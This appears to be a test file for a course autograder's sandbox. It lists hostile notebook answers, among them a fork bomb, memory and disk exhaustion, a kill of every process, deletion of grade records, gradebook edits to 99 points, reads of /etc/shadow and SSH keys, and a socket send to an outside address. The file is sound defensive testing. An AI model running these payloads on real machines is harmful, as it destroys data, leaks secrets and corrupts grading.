"""Answers that harm the machine that grades them: its time, memory, disk, processes and network.

Nearly all of them would do real harm without a sandbox; each has a bound (so many processes, so many GB), so
that a hole in the sandbox makes a test red and not a machine useless.
"""

from tests.classroom.handing_in import (
    ANYTHING,
    DIED,
    GREEDY,
    HEADS,
    LATE,
    SUSPECT,
    WRONG,
    WRONG_BODY,
    Case,
    Handout,
    Share,
    Source,
    answering,
    at_top,
    code,
    inside,
)

# What must not be found outside the sandbox afterwards: a process with this argument, files of this name.
LEFT_BEHIND = "987654.321"
MARK = "attncourse-hostile-mark"

STOPPED = "0 points with the reason; the other notebooks are graded."
HARMLESS = "Nothing outside its sandbox notices; the answer gets what it deserves."


def hostile(
    name: str,
    title: str,
    answer: Source,
    share: Share,
    look: str,
    outcome: str = STOPPED,
    *,
    slug: str = HEADS,
    fools_inside: bool = False,
) -> Case:
    """Return a case whose answer's cell holds the attack."""
    write = answering(slug, answer)
    return Case(name, title, "hostile", slug, write, share, "graded", look, outcome, fools_inside)


def both(name: str, title: str, attack: str, look: str, share: Share = 0.0) -> tuple[Case, Case]:
    """Return an attack when the cell runs, and the same in every call of the function."""
    text = code(attack)
    return (
        hostile(f"{name}-in-the-cell", f"{title}, when the cell runs", at_top(text), share, look),
        hostile(f"{name}-in-the-function", f"{title}, in the function", inside(text), share, look),
    )


LOOP = "while True:\n    pass"
STUBBORN = """
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
"""
DEAF = """
import signal

for number in range(1, signal.NSIG):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    try:
        sum(range(10**7))
    except BaseException:
        pass
"""
SEGFAULT = "import ctypes\n\nctypes.string_at(0)"
FORKS = """
import os
import time

for _ in range(12):  # 4096 processes
    os.fork()
time.sleep(30)
"""
HUNGRY = """
blocks = []
for _ in range(20):
    blocks.append(b"x" * 2**30)
"""
HUNGRY_ARRAYS = """
import numpy as np

blocks = [np.ones(2**27) for _ in range(20)]
"""
CHILDREN = """
import os
import time

for _ in range(8):
    if os.fork() == 0:
        block = b"x" * 2**30
        time.sleep(20)
        os._exit(0)
for _ in range(8):
    if os.wait()[1] != 0:
        raise MemoryError("a child was ended")
time.sleep(10**6)
"""
TIME_CASES = (
    *both("loop", "A loop without end", LOOP, LATE),
    *both("stubborn-loop", "A loop that catches interrupts", STUBBORN, LATE),
    *both("loop-in-c", "One long call in C", "sum(range(10**12))", LATE),
    *both("sleep", "Sleeping for eleven days", "import time\n\ntime.sleep(10**6)", LATE),
    hostile("deaf-loop-in-the-function", "A loop that ignores every signal that can be ignored",
            inside(DEAF), 0.0, LATE),
    hostile("late-exit", "An exit handler and a thread that never end", at_top(
        """
        import atexit
        import threading
        import time

        threading.Thread(target=time.sleep, args=(10**6,)).start()
        atexit.register(time.sleep, 10**6)
        """), 1.0, ANYTHING, "Its processes are ended when the answers are there; the answer counts."),
)  # fmt: skip

END_CASES = (
    *both("os-exit", "os._exit", "import os\n\nos._exit(0)", DIED),
    *both("segfault", "A segmentation fault", SEGFAULT, DIED),
    hostile("abort-in-the-function", "os.abort", inside("import os\n\nos.abort()"), 0.0, DIED),
    *both("fork-bomb", "A fork bomb", FORKS, rf"{GREEDY}|time|fork|Blocking|resource|raise"),
    *both("twenty-gb", "20 GB of memory", HUNGRY, GREEDY),
    hostile("twenty-gb-of-arrays", "20 GB of arrays, in the function", inside(HUNGRY_ARRAYS), 0.0, GREEDY),
    hostile("memory-of-children", "Eight processes with 1 GB each", at_top(CHILDREN), 0.0,
            rf"{GREEDY}|{LATE}"),
    hostile("giant-result", "Returns a tensor of 1 GB",
            inside("return x.new_zeros(2**28)", ""), 0.0, ANYTHING),
    hostile("deep-recursion", "Recursion that switches the limit off", inside(
        """
        import sys

        sys.setrecursionlimit(10**9)

        def down():
            return down() + 1

        down()
        """), 0.0, rf"{GREEDY}|{LATE}|recursion"),
)  # fmt: skip


def _write_2_gb(where: str) -> str:
    return f"""
import os

block = b"x" * 2**24
for place in {where}:
    with open(os.path.join(os.path.expanduser(place), "{MARK}.bin"), "wb") as file:
        for _ in range(128):
            file.write(block)
"""


TOO_LARGE = r"(?i:open|no answer|large|space|file|OSError|raise|died|ended|disk|memory)"
MANY_FILES = f"""
import os

block = os.urandom(2**20)
for place in (".", "/tmp", "/dev/shm"):
    if os.access(place, os.W_OK):
        os.makedirs(os.path.join(place, "{MARK}"), exist_ok=True)
        for number in range(1500):  # 1 MB each
            with open(os.path.join(place, "{MARK}", str(number)), "wb") as file:
                file.write(block)
"""
TAMPER = f"""
import os
import site
import sysconfig

import attncourse.exercises

text = "# {MARK}\\n"
for place in (
    os.path.join(os.path.dirname(attncourse.exercises.__file__), "{MARK}.py"),
    os.path.join(sysconfig.get_path("purelib"), "{MARK}.pth"),
    os.path.join(site.getusersitepackages(), "usercustomize.py"),
    os.path.expanduser("~/.ipython/profile_default/startup/00-{MARK}.py"),
    os.path.expanduser("~/.config/matplotlib/matplotlibrc"),
    "/tmp/{MARK}.py",
):
    try:
        os.makedirs(os.path.dirname(place), exist_ok=True)
        with open(place, "a") as file:
            file.write(text)
    except OSError:
        pass
"""
FLOOD_OF_LINES = 'print(("y" * 49 + "\\n") * 2_000_000)'

DISK_CASES = (
    hostile("two-gb-file-in-the-cell", "A file of 2 GB in the working folder",
            at_top(_write_2_gb('(".",)')), 0.0, TOO_LARGE),
    hostile("two-gb-file-in-the-function", "Files of 2 GB in /tmp and at home",
            inside(_write_2_gb('("/tmp", "~")')), 0.0, TOO_LARGE),
    hostile("many-files", "4 GB in many small files", inside(MANY_FILES), 0.0, ANYTHING),
    hostile("hundred-mb-in-a-line", "100 MB of output in one line",
            at_top('print("x" * 10**8)'), 1.0, ANYTHING,
            "Its output is cut; the answer gets what it deserves."),
    hostile("hundred-mb-in-lines", "100 MB of output in two million lines",
            at_top(FLOOD_OF_LINES), 1.0, ANYTHING, "Its output is cut; the answer gets what it deserves."),
    hostile("hundred-mb-at-every-call", "100 MB of output at every call",
            inside('import sys\n\nprint("x" * 10**8)\nprint("x" * 10**8, file=sys.stderr)'), (-1.0, 1.01),
            ANYTHING, "Its output is cut; the answer gets what it deserves, or 0 points if that takes long."),
    hostile("edits-the-package", "Writes to the course's package and to start-up files",
            at_top(TAMPER, WRONG), 0.0, ANYTHING, HARMLESS),
)  # fmt: skip


def _network(handout: Handout) -> str:
    return at_top(
        f"""
        import socket

        for address in (("127.0.0.1", {handout.extra.get("port", "9")}), ("192.0.2.1", 80)):
            try:
                with socket.create_connection(address, timeout=2) as line:
                    line.sendall(b"leak")
            except OSError as error:
                print("no way out:", error)
        """
    )


def _manual_score(handout: Handout) -> str:
    return at_top(
        f"""
        import sqlite3

        try:
            book = sqlite3.connect({str(handout.course / "gradebook.db")!r}, timeout=1)
            book.execute("update grade set manual_score = 99")
            book.execute("update grade set auto_score = 99")
            book.commit()
        except sqlite3.Error as error:
            print("no gradebook:", error)
        """,
        WRONG,
    )


def _reads_gradebook(handout: Handout) -> str:
    return at_top(
        f"""
        import pathlib

        for path in pathlib.Path({str(handout.course)!r}).glob("**/*"):
            if path.is_file() and path.suffix in (".db", ".csv", ".json"):
                print("{MARK}", path.read_bytes()[:2000])
        for path in ("/etc/shadow", "/proc/1/environ", "/root/.ssh/id_rsa"):
            try:
                print("{MARK}", pathlib.Path(path).read_bytes()[:2000])
            except OSError:
                pass
        """
    )


def _other_students(handout: Handout) -> str:
    """Take the answer of whoever solved it, or the instructor's, and run it."""
    return code(
        f"""
        import json
        import pathlib

        {{}}

        course, found = pathlib.Path({str(handout.course)!r}), []
        for folder in ("source", "release", "submitted", "checked", "autograded", "handout"):
            found += course.glob(folder + "/**/{HEADS}*.ipynb")
        for path in found:
            for cell in json.loads(path.read_text())["cells"]:
                text = "".join(cell["source"])
                if "def split_heads" in text and "reshape" in text:
                    print("{MARK}", path)
                    exec(text)
        """
    ).replace("{}", WRONG)


def _deletes_everything(handout: Handout) -> str:
    return at_top(
        f"""
        import pathlib

        for name in ("grading", "submitted", "autograded", "feedback", "checked"):
            for path in pathlib.Path({str(handout.course)!r}, name).glob("**/*.*"):
                try:
                    path.unlink()
                except OSError:
                    pass
        """,
        WRONG,
    )


KILL_ALL = """
import os
import signal

with open("/proc/1/comm") as file:
    sandboxed = file.read().strip() == "bwrap"
if os.getuid() == 0 and not sandboxed:
    raise RuntimeError("not as root outside a sandbox: that would end every process of the machine")
os.kill(-1, signal.SIGKILL)
"""
KILL_PARENT = """
import os
import signal

try:
    if os.getppid() > 1:
        os.kill(os.getppid(), signal.SIGKILL)
except OSError:
    pass
"""
LEAVE = f"""
import os
import subprocess

try:
    subprocess.Popen(["sleep", "{LEFT_BEHIND}"], start_new_session=True)
except OSError:
    pass
"""
DAEMON = f"""
import os

try:
    child = os.fork()
except OSError:
    child = 1
if child == 0:  # a copy that keeps every pipe open, in a session of its own
    try:
        os.setsid()
        if os.fork() == 0:
            os.execvp("sleep", ["sleep", "{LEFT_BEHIND}"])
    finally:
        os._exit(0)
os.waitpid(child, 0) if child > 1 else None
"""
HOLDS_PIPES = """
import os
import time

if os.fork() == 0:
    os.setsid()
    for number in range(3, 64):
        try:
            os.set_inheritable(number, True)
        except OSError:
            pass
    time.sleep(600)
    os._exit(0)
"""

REACH_CASES = (
    hostile("network", "Sends to an address on the network", _network, 1.0, SUSPECT, HARMLESS),
    hostile("writes-gradebook", "Gives everybody 99 points in the gradebook", _manual_score, 0.0, SUSPECT,
            HARMLESS),
    hostile("reads-gradebook", "Prints the gradebook, the roster and the machine's secrets",
            _reads_gradebook, 1.0, SUSPECT, HARMLESS),
    hostile("reads-other-students", "Reads other students' work and the solutions", _other_students, 0.0,
            SUSPECT, "It finds nothing; the answer gets what it deserves."),
    hostile("deletes-grades", "Deletes the records and everybody's work", _deletes_everything, 0.0, SUSPECT,
            HARMLESS),
    hostile("kills-parent-in-the-cell", "Kills its parent", at_top(KILL_PARENT, WRONG), 0.0, SUSPECT,
            HARMLESS),
    hostile("kills-parent-in-the-function", "Kills its parent, in the function",
            inside(KILL_PARENT, WRONG_BODY), 0.0, SUSPECT, HARMLESS),
    hostile("kills-everything", "Kills every process that it may", inside(KILL_ALL), 0.0,
            rf"{DIED}|{SUSPECT}"),
    hostile("leaves-a-process", "Leaves a process behind", at_top(LEAVE), 1.0, SUSPECT, HARMLESS),
    hostile("leaves-a-daemon", "Leaves a process behind that has left its session", inside(DAEMON),
            1.0, SUSPECT, HARMLESS),
    hostile("holds-the-pipes", "Leaves a process behind that holds every pipe open",
            inside(HOLDS_PIPES, WRONG_BODY), 0.0, ANYTHING, HARMLESS),
)  # fmt: skip

PROCESS_CASES = TIME_CASES + END_CASES + DISK_CASES + REACH_CASES
